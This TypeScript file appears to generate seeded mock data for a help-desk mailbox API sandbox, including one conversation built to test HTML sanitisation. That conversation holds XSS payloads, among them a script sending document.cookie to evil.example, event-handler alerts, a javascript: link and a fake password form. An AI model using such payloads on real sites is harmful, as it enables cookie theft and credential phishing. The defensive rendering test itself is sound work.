// Builds the seeded Mailbox API data: users, teams, mailboxes with folders and
// custom fields, tags, customers, conversations with threads, workflows and
// webhooks. Called by the server at start and on every reset; the same seed
// and sizes always give the same data.
import { Rng } from '../random';
import {
  type AttachmentRec, type ConversationRec, type ConversationStatus, type ConversationType, type CustomerPropertyDef,
  type CustomerRec, type FieldRec, type FolderRec, type FolderType, type MailboxRec, type MailboxStore, type TagRec,
  type TeamRec, type ThreadRec, type UserRec, type WebhookRec, type WorkflowRec,
  computePreview, homeFolderId, isoSeconds, nextId,
} from '../mailbox/model';
import * as W from './words';

export interface MailboxSizes {
  mailboxes: number;
  conversations: number;
  customers: number;
  users: number;
  teams: number;
  tags: number;
}

export const DEFAULT_MAILBOX_SIZES: MailboxSizes = {
  mailboxes: 3, conversations: 5000, customers: 2000, users: 8, teams: 3, tags: 25,
};

/** The seeded data ends at this instant by default, so a seed always yields the same data. */
export const DEFAULT_SEED_DATE = '2026-11-01T00:00:00Z';

export const HOSTILE_SUBJECT = 'Security test: hostile HTML';

const DAY = 86_400_000;
const ACCOUNT_DOMAIN = 'northstar.example';
const MAILBOX_NAMES = ['Support', 'Billing', 'Sales', 'Partners', 'Press', 'Careers', 'Security', 'Feedback'];
const TEAM_NAMES = ['Tier 2', 'Billing Squad', 'Night Shift', 'Onboarding Crew', 'Escalations', 'Enterprise Desk'];

// A 1x1 transparent PNG and a short text file, for seeded attachments.
const PNG_1X1 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
const TEXT_B64 = Buffer.from('Order log\nline 1: ok\nline 2: payment declined\n').toString('base64');

function slugify(s: string): string {
  return s.toLowerCase().normalize('NFKD').replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
}

function esc(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

export function generateMailboxStore(seed: number, sizesIn: Partial<MailboxSizes> = {}, seedDate = DEFAULT_SEED_DATE): MailboxStore {
  const sizes: MailboxSizes = { ...DEFAULT_MAILBOX_SIZES, ...sizesIn };
  const rng = new Rng(seed);
  const end = Date.parse(seedDate);
  const start = end - 730 * DAY;
  const ts = (ms: number): string => isoSeconds(Math.min(ms, end));

  const store: MailboxStore = {
    companyId: 123_456,
    ownerId: 0,
    users: new Map(), teams: new Map(), mailboxes: new Map(), folders: new Map(), fields: new Map(),
    tags: new Map(), customers: new Map(), customerProperties: [], conversations: new Map(), merged: new Map(),
    workflows: new Map(), webhooks: new Map(),
    seq: {
      conversation: 2_000_000_001, thread: 5_000_000_001, customer: 40_000_001, entry: 600_000_001,
      tag: 70_001, attachment: 7_000_001, webhook: 4_001,
    },
    nextNumber: 1001,
  };

  // --- Mailboxes
  const mailboxes: MailboxRec[] = [];
  for (let i = 0; i < Math.max(1, sizes.mailboxes); i++) {
    const name = MAILBOX_NAMES[i % MAILBOX_NAMES.length] ?? 'Mailbox';
    const label = i < MAILBOX_NAMES.length ? name : `${name} ${i + 1}`;
    const created = start - rng.int(30, 400) * DAY - rng.int(0, DAY - 1);
    const m: MailboxRec = {
      id: 310_001 + i, name: label, slug: rng.hex(16), email: `${slugify(label)}@${ACCOUNT_DOMAIN}`,
      createdAt: ts(created), updatedAt: ts(created + rng.int(1, 600) * DAY),
    };
    mailboxes.push(m);
    store.mailboxes.set(m.id, m);
  }
  const mailboxIds = mailboxes.map((m) => m.id);

  // --- Users (the first one is the owner, "me" for the demo token)
  const users: UserRec[] = [];
  const usedUserNames = new Set<string>();
  for (let i = 0; i < Math.max(1, sizes.users); i++) {
    let first = rng.pick(W.FIRST_NAMES);
    while (usedUserNames.has(first)) first = rng.pick(W.FIRST_NAMES);
    usedUserNames.add(first);
    const last = rng.pick(W.LAST_NAMES);
    const role: UserRec['role'] = i === 0 ? 'owner' : i < 3 ? 'admin' : 'user';
    const created = start - rng.int(10, 300) * DAY - rng.int(0, DAY - 1);
    const mine = role === 'user' ? rng.sample(mailboxIds, rng.int(1, mailboxIds.length)).sort((a, b) => a - b) : [...mailboxIds];
    const u: UserRec = {
      id: 100_001 + i, firstName: first, lastName: last, email: `${first.toLowerCase()}@${ACCOUNT_DOMAIN}`,
      role, timezone: rng.pick(W.TIMEZONES), photoUrl: `https://avatars.${ACCOUNT_DOMAIN}/u/${100_001 + i}.png`,
      createdAt: ts(created), updatedAt: ts(created + rng.int(1, 500) * DAY),
      mention: first.toLowerCase(), initials: `${first[0] ?? ''}${last[0] ?? ''}`,
      jobTitle: i === 0 ? 'Head of Support' : rng.pick(['Support Specialist', 'Customer Success', 'Billing Specialist', 'Support Engineer']),
      phone: `+1 555 01${String(10 + i).padStart(2, '0')}`,
      alternateEmails: rng.chance(0.3) ? [`${first.toLowerCase()}.${slugify(last)}@mail.example`] : [],
      mailboxIds: mine,
    };
    users.push(u);
    store.users.set(u.id, u);
  }
  const owner = users[0] as UserRec;
  store.ownerId = owner.id;

  // --- Teams
  for (let i = 0; i < sizes.teams; i++) {
    const name = TEAM_NAMES[i % TEAM_NAMES.length] ?? 'Team';
    const created = start - rng.int(10, 200) * DAY - rng.int(0, DAY - 1);
    const t: TeamRec = {
      id: 900_001 + i, name, timezone: rng.pick(W.TIMEZONES), photoUrl: `https://avatars.${ACCOUNT_DOMAIN}/t/${900_001 + i}.png`,
      mention: slugify(name), initials: name.split(/\s+/).map((w) => w[0] ?? '').join('').slice(0, 2).toUpperCase(),
      createdAt: ts(created), updatedAt: ts(created + rng.int(1, 300) * DAY),
      memberIds: rng.sample(users.map((u) => u.id), rng.int(2, Math.min(4, users.length))).sort((a, b) => a - b),
    };
    store.teams.set(t.id, t);
  }
  const teams = [...store.teams.values()];

  // --- Folders and custom fields, per mailbox
  let folderId = 1_200_001;
  let fieldId = 8_001;
  let optionId = 90_001;
  for (const m of mailboxes) {
    const add = (name: string, type: FolderType, userId = 0): void => {
      const f: FolderRec = { id: folderId++, mailboxId: m.id, name, type, userId, updatedAt: m.updatedAt };
      store.folders.set(f.id, f);
    };
    add('Unassigned', 'open');
    for (const u of users) if (u.mailboxIds.includes(m.id)) add('Mine', 'mytickets', u.id);
    add('Needs attention', 'needsattention');
    add('Drafts', 'drafts');
    add('Assigned', 'assigned');
    add('Closed', 'closed');
    add('Spam', 'spam');

    const fields: Omit<FieldRec, 'id' | 'mailboxId' | 'order'>[] = [
      {
        name: 'Plan', type: 'dropdown', required: false,
        options: ['Free', 'Basic', 'Premium', 'Enterprise'].map((label, j) => ({ id: optionId++, order: j + 1, label })),
      },
      { name: 'Order number', type: 'singleline', required: false, options: [] },
      { name: 'Seats', type: 'number', required: false, options: [] },
      { name: 'Renewal date', type: 'date', required: false, options: [] },
    ];
    fields.forEach((f, j) => {
      const rec: FieldRec = { ...f, id: fieldId++, mailboxId: m.id, order: j + 1 };
      store.fields.set(rec.id, rec);
    });
  }

  // --- Tags (always keep `urgent` and `security-test`, which the data relies on)
  const tagPool = W.TAG_NAMES.slice(0, Math.max(0, sizes.tags));
  for (const must of ['urgent', 'security-test']) {
    if (!tagPool.some(([n]) => n === must)) {
      const entry = W.TAG_NAMES.find(([n]) => n === must);
      if (entry) tagPool.push(entry);
    }
  }
  for (let i = 0; i < Math.max(0, sizes.tags - W.TAG_NAMES.length); i++) tagPool.push([`topic-${i + 1}`, '#929499']);
  const tagByName = new Map<string, TagRec>();
  for (const [name, color] of tagPool) {
    const created = start - rng.int(0, 200) * DAY - rng.int(0, DAY - 1);
    const t: TagRec = {
      id: nextId(store, 'tag'), slug: slugify(name), name, color,
      createdAt: ts(created), updatedAt: ts(created + rng.int(0, 100) * DAY),
    };
    store.tags.set(t.id, t);
    tagByName.set(name, t);
  }
  const ordinaryTags = [...store.tags.values()].filter((t) => t.name !== 'security-test');

  // --- Customer property definitions
  const props: CustomerPropertyDef[] = [
    { type: 'dropdown', slug: 'plan', name: 'Plan', options: ['Free', 'Basic', 'Premium', 'Enterprise'].map((label, j) => ({ id: `opt-${j + 1}`, label })) },
    { type: 'number', slug: 'seats', name: 'Seats' },
    { type: 'date', slug: 'signup-date', name: 'Signup date' },
    { type: 'url', slug: 'admin-url', name: 'Admin URL' },
    { type: 'text', slug: 'account-manager', name: 'Account manager' },
  ];
  store.customerProperties = props;

  // --- Customers
  const usedEmails = new Set<string>();
  const customers: CustomerRec[] = [];
  for (let i = 0; i < sizes.customers; i++) {
    const first = rng.pick(W.FIRST_NAMES);
    const last = rng.pick(W.LAST_NAMES);
    const company = rng.pick(W.COMPANIES);
    const domain = rng.chance(0.5) ? `${slugify(company)}.example` : rng.pick(W.DOMAINS);
    let local = `${first}.${last}`.toLowerCase().normalize('NFKD').replace(/[^a-z.]/g, '');
    let email = `${local}@${domain}`;
    for (let n = 2; usedEmails.has(email); n++) {
      local = `${first.toLowerCase()}${n}`.normalize('NFKD').replace(/[^a-z0-9.]/g, '');
      email = `${local}@${domain}`;
    }
    usedEmails.add(email);
    const created = start + rng.int(0, 700) * DAY + rng.int(0, DAY - 1);
    const updated = Math.min(end, created + rng.int(0, 120) * DAY + rng.int(0, DAY - 1));
    const id = nextId(store, 'customer');
    const emails = [{ id: nextId(store, 'entry'), type: 'work', value: email }];
    if (rng.chance(0.2)) {
      const alt = `${local}@${rng.pick(W.DOMAINS)}`;
      if (!usedEmails.has(alt)) {
        usedEmails.add(alt);
        emails.push({ id: nextId(store, 'entry'), type: 'home', value: alt });
      }
    }
    const where = rng.pick(W.CITIES);
    const c: CustomerRec = {
      id, firstName: first, lastName: last,
      gender: rng.pick(['male', 'female', 'unknown', 'unknown']),
      jobTitle: rng.chance(0.6) ? rng.pick(W.JOB_TITLES) : null,
      location: rng.chance(0.7) ? where.city : null,
      organization: rng.chance(0.7) ? company : null,
      photoType: rng.pick(['unknown', 'gravatar', 'gravatar', 'twitter']),
      photoUrl: rng.chance(0.5) ? `https://avatars.example.org/c/${id}.png` : null,
      background: rng.chance(0.2) ? rng.pick(['Prefers email over phone.', 'Long-time customer since the beta.', 'Reseller; handles several accounts.']) : null,
      age: rng.chance(0.3) ? rng.pick(['25-30', '30-35', '35-40', '40-50']) : null,
      createdAt: ts(created), updatedAt: ts(updated),
      emails,
      phones: rng.chance(0.5)
        ? [{ id: nextId(store, 'entry'), type: rng.pick(['work', 'mobile', 'home']), value: `+${rng.int(1, 49)} ${rng.int(100, 999)} ${rng.int(1000, 9999)}` }]
        : [],
      chats: rng.chance(0.1) ? [{ id: nextId(store, 'entry'), type: rng.pick(['skype', 'xmpp', 'other']), value: `${local}.chat` }] : [],
      socialProfiles: rng.chance(0.3)
        ? [{ id: nextId(store, 'entry'), type: rng.pick(['twitter', 'linkedin', 'facebook']), value: `https://social.example/${local}` }]
        : [],
      websites: rng.chance(0.3) ? [{ id: nextId(store, 'entry'), value: `https://${domain}` }] : [],
      address: rng.chance(0.6)
        ? { city: where.city, lines: [`${rng.int(1, 200)} ${rng.pick(W.STREETS)}`], state: where.state, postalCode: where.postal, country: where.country }
        : null,
      properties: {},
    };
    if (rng.chance(0.6)) c.properties['plan'] = rng.pick(['Free', 'Basic', 'Premium', 'Enterprise']);
    if (rng.chance(0.4)) c.properties['seats'] = String(rng.int(1, 250));
    if (rng.chance(0.3)) c.properties['signup-date'] = isoSeconds(created).slice(0, 10);
    if (rng.chance(0.1)) c.properties['account-manager'] = `${owner.firstName} ${owner.lastName}`;
    customers.push(c);
    store.customers.set(c.id, c);
  }
  if (customers.length === 0) throw new Error('the sandbox needs at least one customer');

  // --- Conversations
  const usersByMailbox = new Map(mailboxIds.map((id) => [id, users.filter((u) => u.mailboxIds.includes(id))]));
  const fieldsByMailbox = new Map(mailboxIds.map((id) => [id, [...store.fields.values()].filter((f) => f.mailboxId === id)]));
  const usersOf = (mailboxId: number): UserRec[] => usersByMailbox.get(mailboxId) ?? [];
  const fieldsOf = (mailboxId: number): FieldRec[] => fieldsByMailbox.get(mailboxId) ?? [];
  const mailboxKind = (m: MailboxRec): 'support' | 'billing' | 'sales' =>
    m.name.startsWith('Billing') ? 'billing' : m.name.startsWith('Sales') ? 'sales' : 'support';

  const createdTimes: number[] = [];
  for (let i = 0; i < sizes.conversations; i++) createdTimes.push(start + Math.floor(rng.next() * (end - start - DAY)));
  createdTimes.sort((a, b) => a - b);

  for (const createdMs of createdTimes) {
    const r = rng.next();
    const mailbox = mailboxes.length === 1 ? mailboxes[0] as MailboxRec
      : (r < 0.55 ? mailboxes[0] : r < 0.8 ? mailboxes[1] : mailboxes[2 + Math.floor(rng.next() * (mailboxes.length - 2))] ?? mailboxes[1]) as MailboxRec;
    const customer = rng.pick(customers);
    const type: ConversationType = rng.chance(0.75) ? 'email' : rng.chance(0.6) ? 'chat' : 'phone';
    const ageDays = (end - createdMs) / DAY;
    const s = rng.next();
    let status: ConversationStatus;
    if (ageDays > 30) status = s < 0.85 ? 'closed' : s < 0.87 ? 'spam' : s < 0.95 ? 'active' : 'pending';
    else status = s < 0.45 ? 'active' : s < 0.7 ? 'pending' : s < 0.98 ? 'closed' : 'spam';
    const isDraft = status !== 'spam' && rng.chance(0.005);
    const team = usersOf(mailbox.id);
    const a = rng.next();
    const assignee: ConversationRec['assignee'] = status === 'spam' ? null
      : a < 0.7 && team.length > 0 ? { type: 'user', id: rng.pick(team).id }
        : a < 0.78 && teams.length > 0 ? { type: 'team', id: rng.pick(teams).id } : null;
    const subject = rng.pick(W.SUBJECTS_BY_MAILBOX[mailboxKind(mailbox)])
      .replace('{n}', String(rng.int(1000, 99999))).replace('{product}', rng.pick(W.PRODUCTS));
    const tagIds = status === 'spam' ? [] : rng.sample(ordinaryTags, rng.chance(0.6) ? rng.int(1, 3) : 0).map((t) => t.id);
    const customFields: ConversationRec['customFields'] = [];
    for (const f of fieldsOf(mailbox.id)) {
      if (!rng.chance(0.4)) continue;
      const value = f.type === 'dropdown' ? String(rng.pick(f.options).id)
        : f.type === 'number' ? String(rng.int(1, 500))
          : f.type === 'date' ? isoSeconds(createdMs + rng.int(30, 365) * DAY).slice(0, 10)
            : `ORD-${rng.int(10000, 99999)}`;
      customFields.push({ id: f.id, value });
    }
    const customerEmail = customer.emails[0]?.value ?? '';
    const conv: ConversationRec = {
      id: nextId(store, 'conversation'), number: store.nextNumber++, type, folderId: 0, status,
      state: isDraft ? 'draft' : 'published', subject, preview: '', mailboxId: mailbox.id, assignee,
      createdBy: isDraft ? { type: 'user', id: rng.pick(team.length > 0 ? team : users).id } : { type: 'customer', id: customer.id },
      createdAt: ts(createdMs), closedAt: null, closedBy: 0, userUpdatedAt: ts(createdMs), customerWaitingSince: null,
      source: type === 'chat' ? { type: 'beacon', via: 'customer' }
        : type === 'phone' ? { type: 'phone', via: 'user' }
          : { type: rng.pick(['email', 'email', 'email', 'web', 'api', 'emailfwd']), via: 'customer' },
      tagIds, cc: rng.chance(0.1) ? [`${rng.pick(W.FIRST_NAMES).toLowerCase()}@${customerEmail.split('@')[1] ?? 'example.com'}`] : [],
      bcc: [], primaryCustomerId: customer.id, customFields, snooze: null, threads: [],
    };
    buildThreads(conv, customer, team.length > 0 ? team : users, createdMs);
    if (status === 'active' && rng.chance(0.03) && !isDraft) {
      conv.snooze = { snoozedBy: owner.id, snoozedUntil: ts(end + rng.int(1, 7) * DAY), unsnoozeOnCustomerReply: true };
    }
    conv.preview = computePreview(conv);
    store.conversations.set(conv.id, conv);
  }

  // Builds 1–8 threads for one conversation: customer messages and replies
  // alternate, with an occasional note and a status line item at the end.
  function buildThreads(conv: ConversationRec, customer: CustomerRec, agents: UserRec[], createdMs: number): void {
    const agent = conv.assignee?.type === 'user' ? store.users.get(conv.assignee.id) ?? rng.pick(agents) : rng.pick(agents);
    const custEmail = customer.emails[0]?.value ?? '';
    const count = conv.state === 'draft' ? 1 : rng.int(1, 8);
    let t = createdMs;
    let lastCustomerText = '';
    let lastAgentText = '';
    for (let k = 0; k < count; k++) {
      if (k > 0) t = Math.min(end - 60_000, t + rng.int(10, 60 * 48) * 60_000);
      const last = k === count - 1;
      let kind: ThreadRec['type'];
      if (conv.state === 'draft') kind = 'reply';
      else if (k === 0) kind = conv.type === 'chat' ? 'chat' : conv.type === 'phone' ? 'phone' : 'customer';
      else if (last && conv.status === 'closed' && count > 2 && rng.chance(0.5)) kind = 'lineitem';
      else if (rng.chance(0.15)) kind = 'note';
      else kind = conv.threads[conv.threads.length - 1]?.createdBy.type === 'customer' ? 'reply' : rng.chance(0.7) ? 'customer' : 'reply';
      const status: ConversationStatus = last ? conv.status : kind === 'reply' ? 'pending' : 'active';
      const fromCustomer = kind === 'customer' || kind === 'chat';
      let body: string;
      // Quotes carry only the previous message's own text (not its quotes), so bodies stay short.
      if (fromCustomer) {
        [body, lastCustomerText] = customerBody(customer, lastAgentText, agent);
      } else if (kind === 'reply' || kind === 'phone') {
        [body, lastAgentText] = agentBody(customer, agent, lastCustomerText, kind === 'phone');
      } else if (kind === 'note') {
        body = `<p>${rng.pick(W.NOTE_SENTENCES)}</p>`;
      } else {
        body = '';
      }
      const attachments: AttachmentRec[] = [];
      if (fromCustomer && rng.chance(0.05)) {
        const png = rng.chance(0.5);
        attachments.push({
          id: nextId(store, 'attachment'), filename: png ? 'screenshot.png' : 'order-log.txt',
          mimeType: png ? 'image/png' : 'text/plain', width: png ? 1 : 0, height: png ? 1 : 0,
          size: Buffer.from(png ? PNG_1X1 : TEXT_B64, 'base64').length, data: png ? PNG_1X1 : TEXT_B64,
        });
      }
      const thread: ThreadRec = {
        id: nextId(store, 'thread'), type: kind, status, state: conv.state === 'draft' ? 'draft' : 'published', hidden: false,
        action: kind === 'lineitem' ? { type: 'changed-ticket-status', text: `${agent.firstName} marked as Closed`, associatedEntities: { user: agent.id } } : null,
        body,
        source: fromCustomer ? { type: conv.source.type === 'beacon' ? 'beacon' : 'email', via: 'customer' } : { type: kind === 'phone' ? 'phone' : 'web', via: 'user' },
        customerId: customer.id,
        createdBy: fromCustomer ? { type: 'customer', id: customer.id } : { type: 'user', id: agent.id },
        assignedTo: conv.assignee, savedReplyId: 0,
        to: kind === 'reply' ? [custEmail] : [], cc: k === 0 ? [...conv.cc] : [], bcc: [],
        createdAt: ts(t), openedAt: kind === 'reply' && rng.chance(0.6) ? ts(t + rng.int(5, 600) * 60_000) : null,
        attachments,
      };
      conv.threads.push(thread);
      if (fromCustomer) conv.customerWaitingSince = { time: thread.createdAt, latestReplyFrom: 'customer' };
      else {
        conv.userUpdatedAt = thread.createdAt;
        if (kind === 'reply' && conv.customerWaitingSince) conv.customerWaitingSince = { time: conv.customerWaitingSince.time, latestReplyFrom: 'user' };
      }
    }
    if (conv.status === 'closed') {
      const lastThread = conv.threads[conv.threads.length - 1];
      conv.closedAt = lastThread?.createdAt ?? conv.createdAt;
      conv.closedBy = agent.id;
      if (conv.closedAt > conv.userUpdatedAt) conv.userUpdatedAt = conv.closedAt;
    }
  }

  /** Returns [full body, the part a later reply may quote]. */
  function customerBody(customer: CustomerRec, quoted: string, agent: UserRec): [string, string] {
    const parts = [`<p>Hi ${rng.chance(0.5) ? 'there' : esc(agent.firstName)},</p>`];
    parts.push(`<p>${rng.sample(W.CUSTOMER_SENTENCES, rng.int(1, 3)).join(' ')}</p>`);
    if (rng.chance(0.15)) {
      parts.push(`<p>Steps to reproduce:</p><ol>${rng.sample(['Open the dashboard', 'Click Export', 'Choose the last 30 days', 'Press Save', 'Reload the page'], 3).map((x) => `<li>${x}</li>`).join('')}</ol>`);
    }
    if (rng.chance(0.3)) parts.push(`<p>${rng.pick(W.CUSTOMER_SENTENCES)}</p>`);
    parts.push(`<p>Thanks,<br>${esc(customer.firstName ?? '')}</p>`);
    const own = parts.join('\n');
    if (quoted !== '' && rng.chance(0.6)) {
      parts.push(`<div class="quoted">On an earlier date ${esc(agent.firstName)} wrote:<blockquote>${quoted}</blockquote></div>`);
    }
    return [parts.join('\n'), own];
  }

  /** Returns [full body, the part a later message may quote]. */
  function agentBody(customer: CustomerRec, agent: UserRec, quoted: string, phone: boolean): [string, string] {
    if (phone) {
      const call = `<p>Call with ${esc(customer.firstName ?? 'the customer')}: ${rng.sample(W.AGENT_SENTENCES, 2).join(' ')}</p>`;
      return [call, call];
    }
    const parts = [`<p>Hi ${esc(customer.firstName ?? 'there')},</p>`];
    parts.push(`<p>${rng.sample(W.AGENT_SENTENCES, rng.int(1, 3)).join(' ')}</p>`);
    if (rng.chance(0.25)) {
      parts.push(`<ul><li>Open <strong>Settings</strong></li><li>Choose <em>Account</em></li><li>Click <strong>Save</strong></li></ul>`);
    }
    if (rng.chance(0.3)) {
      const link = rng.pick(W.HELP_LINKS);
      parts.push(`<p>More details are in <a href="${link}">this help article</a>.</p>`);
    }
    parts.push(`<p>Best,<br>${esc(agent.firstName)}</p>`);
    const own = parts.join('\n');
    if (quoted !== '' && rng.chance(0.4)) parts.push(`<blockquote>${quoted}</blockquote>`);
    return [parts.join('\n'), own];
  }

  // --- The hostile-HTML conversation, so views can prove they render it inert.
  {
    const mailbox = mailboxes[0] as MailboxRec;
    const customer = customers[0] as CustomerRec;
    const at = end - 2 * DAY;
    const hostile = [
      '<p>Hello, <b>please</b> look at this:</p>',
      '<script>document.title = "pwned"; fetch("https://evil.example/steal?c=" + document.cookie);</script>',
      '<img src=x onerror="alert(\'xss\')">',
      '<p><a href="javascript:alert(\'xss\')">Click for your refund</a></p>',
      '<iframe src="https://evil.example/frame" width="400" height="300"></iframe>',
      '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;color:white">Inline-styled overlay</p>',
      '<p>Tracking pixel: <img src="https://tracker.example/pixel.gif?u=1" width="1" height="1"></p>',
      '<form action="https://evil.example/login"><input name="password" type="password"><button>Log in</button></form>',
      '<svg onload="alert(1)"><circle r="10"></circle></svg>',
    ].join('\n');
    const conv: ConversationRec = {
      id: nextId(store, 'conversation'), number: store.nextNumber++, type: 'email', folderId: 0, status: 'active',
      state: 'published', subject: HOSTILE_SUBJECT, preview: '', mailboxId: mailbox.id, assignee: null,
      createdBy: { type: 'customer', id: customer.id }, createdAt: ts(at), closedAt: null, closedBy: 0,
      userUpdatedAt: ts(at), customerWaitingSince: { time: ts(at), latestReplyFrom: 'customer' },
      source: { type: 'email', via: 'customer' }, tagIds: [tagByName.get('security-test')?.id ?? 0].filter((x) => x > 0),
      cc: [], bcc: [], primaryCustomerId: customer.id, customFields: [], snooze: null,
      threads: [{
        id: nextId(store, 'thread'), type: 'customer', status: 'active', state: 'published', hidden: false, action: null,
        body: hostile, source: { type: 'email', via: 'customer' }, customerId: customer.id,
        createdBy: { type: 'customer', id: customer.id }, assignedTo: null, savedReplyId: 0, to: [], cc: [], bcc: [],
        createdAt: ts(at), openedAt: null, attachments: [],
      }],
    };
    conv.preview = computePreview(conv);
    store.conversations.set(conv.id, conv);
  }

  for (const c of store.conversations.values()) c.folderId = homeFolderId(store, c);

  // --- A few merged conversations: their ids answer GET with 301 to the survivor.
  const all = [...store.conversations.values()];
  for (let i = 0; i < Math.min(3, all.length); i++) {
    const survivor = rng.pick(all);
    store.merged.set(nextId(store, 'conversation'), survivor.id);
  }

  // --- Workflows
  let workflowId = 110_001;
  for (const m of mailboxes) {
    const defs: [WorkflowRec['type'], string][] = [
      ['manual', 'Escalate to Tier 2'], ['manual', 'Mark as VIP'],
      ['automatic', 'Auto-close pending after 7 days'], ['automatic', `Tag ${mailboxKind(m)} requests`],
    ];
    defs.forEach(([type, name], j) => {
      const created = start + rng.int(0, 300) * DAY + rng.int(0, DAY - 1);
      const w: WorkflowRec = {
        id: workflowId++, mailboxId: m.id, type, status: j === 3 && rng.chance(0.5) ? 'inactive' : 'active', order: j + 1, name,
        createdAt: ts(created), modifiedAt: ts(created + rng.int(0, 200) * DAY),
      };
      store.workflows.set(w.id, w);
    });
  }

  // --- Webhooks
  const hooks: Omit<WebhookRec, 'id'>[] = [
    {
      url: 'https://hooks.example.com/helpscout/conversations', events: ['convo.created', 'convo.status', 'convo.assigned'],
      secret: rng.hex(20), state: 'enabled', notification: false, label: 'CRM sync', payloadVersion: 'V2', mailboxIds: [mailboxIds[0] ?? 0],
    },
    {
      url: 'https://automation.example.net/inbound', events: ['customer.created', 'customer.updated'],
      secret: rng.hex(20), state: 'disabled', notification: true, label: 'Marketing list', payloadVersion: 'V2', mailboxIds: [],
    },
  ];
  for (const h of hooks) {
    const id = nextId(store, 'webhook');
    store.webhooks.set(id, { id, ...h });
  }

  return store;
}
